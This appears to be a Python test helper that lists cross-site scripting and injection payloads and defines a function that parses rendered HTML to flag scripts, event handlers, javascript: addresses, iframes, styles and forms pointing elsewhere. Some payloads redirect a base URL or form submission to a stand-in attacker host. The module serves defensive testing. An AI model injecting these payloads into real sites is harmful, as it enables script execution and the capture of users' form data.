"""Texts that must never act, and a judge of pages that sees whether one does."""

from collections.abc import Iterator

import html5lib

XHTML = "{http://www.w3.org/1999/xhtml}"
PAYLOADS = [
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>@import '//evil.example'</style>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "--><script>alert(1)</script>",
    "{{ 7*7 }}{% raise %}",
    "<base href=//evil.example>",
    "<form action=//evil.example><button>x",
    "\u202e<script>alert(1)</script>",
]
ADDRESSES = ("href", "src", "action", "formaction", "data", "poster", "srcdoc")
HARMLESS = ("/", "#", "?", "mailto:", "http:", "https:")


def acting(html: str) -> Iterator[str]:
    """Yield what in a page could act or lead away: foreign scripts, handlers, styles, script addresses, forms."""
    for element in html5lib.parse(html).iter():
        name = str(element.tag).removeprefix(XHTML)
        if name in ("iframe", "object", "embed", "base", "style") or (name == "script" and not element.get("src")):
            yield name
        for key, value in element.attrib.items():
            if str(key).startswith("on") or key in ("style", "srcdoc"):
                yield f"{name} {key}"
            if key in ADDRESSES and not value.strip().lower().startswith(HARMLESS) and ":" in value:
                yield f"{name} {key}={value}"
            if (key in ("action", "formaction", "src") and not value.startswith("/")) or value.startswith("//"):
                yield f"{name} {key}={value}"
